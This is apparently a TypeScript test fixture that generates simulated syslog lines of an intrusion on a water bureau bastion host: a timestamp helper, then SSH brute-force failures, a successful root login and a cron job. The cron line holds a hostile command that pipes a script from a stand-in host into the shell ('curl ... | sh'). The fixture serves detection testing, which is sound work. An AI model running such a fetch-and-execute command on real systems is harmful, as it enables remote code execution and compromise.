/** "Mar 10 13:30:01" in Shanghai: RFC 3164 stamps carry no zone, and the service reads them there. */
export function syslogStamp(at: Date): string {
  const parts = Object.fromEntries(
    new Intl.DateTimeFormat('en-US', { timeZone: 'Asia/Shanghai', month: 'short', day: 'numeric', hour: '2-digit', minute: '2-digit', second: '2-digit', hourCycle: 'h23' }).formatToParts(at).map((p) => [p.type, p.value]),
  );
  return `${parts.month} ${parts.day.padStart(2, ' ')} ${parts.hour}:${parts.minute}:${parts.second}`;
}

/**
 * Five minutes ago on the water bureau's bastion host `zw-bastion`: ten failed root logins from one
 * address, then a success (brute force that worked), then a cron job fetching and running code;
 * and one failed login on `jt-gw-07`, a host no asset claims. 13 syslog lines.
 */
export function bastionAttack(now = Date.now()): string {
  const start = now - 5 * 60_000;
  const line = (i: number, host: string, text: string) => `${syslogStamp(new Date(start + i * 1000))} ${host} ${text}`;
  return [
    ...Array.from({ length: 10 }, (_, i) => line(i, 'zw-bastion', `sshd[3020${i}]: Failed password for root from 203.0.113.77 port 4022${i} ssh2`)),
    line(11, 'zw-bastion', 'sshd[30300]: Accepted password for root from 203.0.113.77 port 40300 ssh2'),
    line(12, 'zw-bastion', 'CRON[30113]: (root) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)'),
    line(13, 'jt-gw-07', 'sshd[4001]: Failed password for admin from 198.51.100.9 port 50000 ssh2'),
  ].join('\n');
}
